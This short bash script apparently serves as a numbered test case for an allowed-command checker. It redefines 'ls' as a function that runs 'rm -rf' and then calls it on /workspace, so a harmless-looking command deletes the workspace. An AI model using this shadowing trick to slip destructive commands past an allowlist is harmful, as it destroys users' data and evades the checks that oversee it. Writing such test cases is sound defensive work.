#!/usr/bin/env bash
# attack-class: 20
# title: function named ls redefining an allowed command
# why: later "ls" calls run the function body

ls() {
  command rm -rf "$@"
}
ls /workspace
